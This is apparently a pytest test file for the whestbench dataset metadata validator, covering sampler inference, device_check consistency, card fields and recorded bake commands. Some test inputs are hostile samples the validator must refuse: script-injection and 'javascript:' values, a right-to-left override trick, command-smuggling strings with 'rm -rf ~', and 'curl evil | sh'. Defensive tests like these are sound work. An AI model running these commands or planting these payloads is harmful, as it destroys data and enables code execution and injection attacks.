"""schema: metadata accessors that give whestbench 0.16 datasets (which record less) their meaning."""

from __future__ import annotations

import pytest

from whestbench.format.schema import infer_sampler


@pytest.mark.parametrize(
    ("md", "sampler"),
    [
        ({"backend": "flopscope"}, "pcg64"),  # whestbench 0.16's CPU bake is our pcg64 sampler
        ({"backend": "torch"}, "torch-randn"),  # 0.16's torch bake, no sampler block
        ({"backend": "torch", "sampler": {"name": "philox"}}, "philox"),
    ],
)
def test_the_sampler_is_read_or_inferred_from_metadata(md, sampler):
    assert infer_sampler(md) == sampler


# --- the device_check block -----------------------------------------------------------------------

import copy  # noqa: E402
import re  # noqa: E402

from whestbench.errors import InvalidDatasetError, UsageError  # noqa: E402
from whestbench.format.schema import device_check_state, validate_metadata  # noqa: E402

_CHECKS = [{"name": n, "passed": True, "figure": 0.0, "limit": 0.0, "detail": "ok"}
           for n in ("philox-words", "block-sums", "row-invariance")]
_TORCH = {"schema_version": "3.0", "format": "hf-datasets-parquet", "backend": "torch",
          "seed_protocol": {"name": "whestbench_explicit_per_mlp_seeds", "version": "3.0"},
          "n_samples": 1000, "width": 4, "depth": 2, "split": "public", "config": "default", "n_mlps": 2,
          "sampler": {"name": "philox", "version": "1", "block_size": 65536},
          "bake_command": "whest dataset bake --torch --n-mlps 2 --output out",
          "device_check": {"passed": True, "skipped": False, "checks": _CHECKS, "seconds": 1.0,
                           "device": {"type": "cpu"}, "versions": {}}}


def _with_check(**changes):
    md = copy.deepcopy(_TORCH)
    md["device_check"].update(changes)
    return md


def _failed_row_invariance():
    checks = copy.deepcopy(_CHECKS)
    checks[2]["passed"] = False
    return checks


def test_honest_device_check_blocks_validate():
    validate_metadata(copy.deepcopy(_TORCH))
    assert device_check_state(_TORCH["device_check"]) == "passed"
    skipped = _with_check(passed=False, skipped=True, checks=[])
    skipped["bake_command"] += " --skip-device-check"
    validate_metadata(skipped)
    assert device_check_state(skipped["device_check"]) == "skipped"
    accepted = _with_check(passed=False, checks=_failed_row_invariance(), accepted=["row-invariance"])
    accepted["bake_command"] += " --accept-non-invariant"
    validate_metadata(accepted)
    assert device_check_state(accepted["device_check"]) == "accepted"


@pytest.mark.parametrize("md, words", [
    (_with_check(passed=False), "passed is false but every check passed"),
    (_with_check(checks=_failed_row_invariance()), "passed is true but the check(s) row-invariance failed"),
    (_with_check(passed="yes"), "passed must be true or false"),
    (_with_check(passed=False, checks=[dict(c, passed=(c["name"] != "philox-words")) for c in _CHECKS],
                 accepted=["philox-words"]), "accepts only a failed row-invariance"),
    (_with_check(passed=False, checks=_failed_row_invariance()), "accepts no check while ['row-invariance'] failed"),
    (_with_check(passed=False, checks=_failed_row_invariance(), accepted=["row-invariance"]),
     "the recorded bake_command has no --accept-non-invariant"),
    (_with_check(passed=False, skipped=True, checks=[]), "the recorded bake_command has no --skip-device-check"),
    (_with_check(skipped=True, checks=[]), "cannot pass, hold checks or accept"),
    (_with_check(checks=_CHECKS + _CHECKS[:1]), "each once"),
    (_with_check(checks="all good"), "must be a list"),
    ({**copy.deepcopy(_TORCH), "device_check": "passed"}, "must be an object"),
    ({**copy.deepcopy(_TORCH), "backend": "flopscope", "sampler": {"name": "pcg64", "version": "1", "block_size": 16384}},
     "only torch bakes check their device"),
], ids=["passed-false-all-pass", "failed-under-pass", "yes", "accepted-philox", "failure-not-accepted",
        "accepted-without-flag", "skipped-without-flag", "skipped-but-passed", "twice", "not-a-list", "a-string",
        "cpu-backend"])
def test_device_check_block_is_validated(md, words):
    with pytest.raises(InvalidDatasetError, match="device_check") as e:
        validate_metadata(md)
    assert words in str(e.value)


def test_a_splits_device_check_is_validated_too():
    md = copy.deepcopy(_TORCH)
    block = md.pop("device_check")
    for k in ("split", "config", "n_mlps"):
        md.pop(k)
    md["splits"] = {"public": {"n_mlps": 2, "config": "default", "device_check": dict(block, passed="yes")}}
    with pytest.raises(InvalidDatasetError, match=r"splits\['public'\].device_check.passed must be true or false"):
        validate_metadata(md)


def test_target_stderr_without_rule_is_invalid():
    """A deleted rule let a target bake pass as another rule's; whestbench 0.17.0's first target bakes
    wrote none, and the error gives them their one-line fix."""
    md = {"schema_version": "3.0", "format": "hf-datasets-parquet", "backend": "flopscope",
          "seed_protocol": {"name": "whestbench_explicit_per_mlp_seeds", "version": "3.0"},
          "n_samples": 100000, "width": 4, "depth": 2, "split": "public", "n_mlps": 2,
          "sampler": {"name": "pcg64", "version": "1", "block_size": 16384},
          "estimator": {"name": "plain", "version": "1"},
          "target_stderr": {"value": 0.05, "layer": "last", "rule": "pilot-planned", "step_samples": 16384}}
    validate_metadata(copy.deepcopy(md))
    del md["target_stderr"]["rule"]
    with pytest.raises(InvalidDatasetError, match="target_stderr has no 'rule'") as e:
        validate_metadata(copy.deepcopy(md))
    assert '"rule": "sequential-0.17.0"' in str(e.value) and "\n" not in str(e.value)
    md["target_stderr"]["rule"] = "sequential-0.17.0"
    validate_metadata(copy.deepcopy(md))
    md["target_stderr"]["rule"] = "made-up"
    with pytest.raises(InvalidDatasetError, match="rule 'made-up' is not 'pilot-planned'"):
        validate_metadata(md)


# --- the card block and the recorded bake command (issue 27, cards) --------------------------------


@pytest.mark.parametrize("card, field", [
    ({"pretty_name": "Eval\n<script>alert(1)</script>"}, "metadata card.pretty_name must be"),
    ({"pretty_name": "abc\u202eexe.txt"}, "metadata card.pretty_name must be"),
    ({"homepage": "javascript:alert(1)"}, "metadata card.homepage must be"),
    ({"homepage": "https://x.org/}}},evil={"}, "metadata card.homepage must be"),
    ({"license": "x y"}, "metadata card.license must be"),
    ({"license": "not-a-real-license"}, "metadata card.license must be"),
    ({"title": "x"}, "metadata card: unknown field 'title'"),
    ("My title", "card must be an object"),
])
def test_card_block_is_validated(card, field):
    md = copy.deepcopy(_TORCH)
    md["card"] = card
    with pytest.raises(InvalidDatasetError, match=re.escape(field)) as e:
        validate_metadata(md)
    assert "\n" not in str(e.value)


def test_an_honest_card_block_validates():
    md = copy.deepcopy(_TORCH)
    md["card"] = {"pretty_name": "Eval <8> & friends", "license": "other", "homepage": "https://example.org/d?x=1"}
    validate_metadata(md)


@pytest.mark.parametrize("recorded", [
    "rm -rf ~; whest dataset bake --torch --n-mlps 2 --output out",
    "whest dataset bake --torch --n-mlps 2 --output out; rm -rf ~",
    "whest dataset bake --torch --n-mlps 2 --evil 1",
    "whest dataset verify --recompute 1 out",
    "whest dataset bake --n-mlps",
    ["sh", "-c", "whest dataset bake"],
    "",
])
def test_a_forged_bake_command_is_invalid(recorded):
    md = copy.deepcopy(_TORCH)
    md["bake_command"] = recorded
    with pytest.raises(InvalidDatasetError, match="bake_command .* is not a `whest dataset bake` command"):
        validate_metadata(md)


def test_a_splits_forged_bake_command_is_invalid():
    md = copy.deepcopy(_TORCH)
    md.pop("bake_command")
    entry = {k: md.pop(k) for k in ("n_mlps", "device_check")}
    md.pop("split")
    md["splits"] = {"public": {**entry, "bake_command": "whest dataset bake --torch --n-mlps 2 --output o"}}
    validate_metadata(copy.deepcopy(md))
    md["splits"]["public"]["bake_command"] = "curl evil | sh"
    with pytest.raises(InvalidDatasetError, match=r"splits\['public'\].bake_command"):
        validate_metadata(md)


# --- unhashable values read from JSON (a list or object where a name belongs) --------------------


def _leaves(d, path=()):
    for k, v in d.items():
        if isinstance(v, dict):
            yield from _leaves(v, (*path, k))
        yield (*path, k)


_CV_TARGET = {"schema_version": "3.0", "format": "hf-datasets-parquet", "backend": "flopscope",
              "seed_protocol": {"name": "whestbench_explicit_per_mlp_seeds", "version": "3.0"},
              "n_samples": 1 << 20, "width": 4, "depth": 2, "split": "public", "n_mlps": 2,
              "sampler": {"name": "pcg64", "version": "1", "block_size": 16384},
              "estimator": {"name": "control-variate", "version": "1", "batch_samples": 16384},
              "target_stderr": {"value": 0.05, "layer": "last", "rule": "pilot-planned-exceed",
                                "step_samples": 16384, "exceed_probability": 0.05}}


@pytest.mark.parametrize("path", sorted(_leaves(_CV_TARGET)), ids="/".join)
@pytest.mark.parametrize("value", [[1], {"a": 1}], ids=["list", "object"])
def test_a_list_or_object_anywhere_in_the_metadata_is_invalid_metadata_never_a_type_error(path, value):
    """A JSON list or object where a name, a version or a count belongs was a TypeError (unhashable) from
    a set lookup, a traceback instead of the one-line refusal; it is InvalidDatasetError, or accepted where
    the key is free text whestbench 0.16 never checked (the backend name)."""
    md = copy.deepcopy(_CV_TARGET)
    validate_metadata(copy.deepcopy(md))  # the base is valid
    block = md
    for k in path[:-1]:
        block = block[k]
    block[path[-1]] = value
    try:
        validate_metadata(md)
    except InvalidDatasetError as e:
        assert "\n" not in str(e) and len(str(e)) < 600
        assert e.fix and str(e).endswith(e.fix), "the advice is a field of the error, and the message ends with it"
    else:
        assert path == ("backend",), f"{path} = {value!r} was accepted"


@pytest.mark.parametrize("base", [_CV_TARGET, _TORCH], ids=["cv-target", "torch"])
def test_every_refusal_of_a_missing_or_null_key_carries_its_advice(base):
    """Each key removed, or set to null, in turn: a refusal says what to do in its ``fix`` field (REDO for
    a dataset that is not what it should be, the metadata-edited advice for a recorded block)."""
    refused = 0
    for path in sorted(_leaves(base)):
        for edit in ("remove", "null"):
            md = copy.deepcopy(base)
            block = md
            for k in path[:-1]:
                block = block[k]
            if edit == "remove":
                del block[path[-1]]
            else:
                block[path[-1]] = None
            try:
                validate_metadata(md)
            except InvalidDatasetError as e:
                refused += 1
                assert e.fix and str(e).endswith(e.fix), f"{path} {edit}: {e}"
    assert refused > 10


@pytest.mark.parametrize("license", [["mit"], {"id": "mit"}])
def test_a_card_license_that_is_a_list_or_object_is_a_usage_error(license):
    from whestbench.format.card_rules import check_card

    with pytest.raises(UsageError, match="license"):
        check_card({"license": license}, "--card FILE")


def test_a_combined_datasets_sampler_is_read_from_its_splits():
    """combine-splits keeps the sampler block per split: ``verify --against`` and ``--recompute`` took such
    a philox dataset for a whestbench 0.16 torch.randn bake (the top level has no sampler)."""
    md = {"backend": "torch", "splits": {"public": {"sampler": {"name": "philox", "version": "1"}},
                                         "holdout": {"sampler": {"name": "philox", "version": "1"}}}}
    assert infer_sampler(md) == "philox"
    assert infer_sampler({"backend": "torch", "splits": {"public": {"n_mlps": 2}}}) == "torch-randn"
    assert infer_sampler({"backend": "flopscope", "splits": {"public": {}}}) == "pcg64"
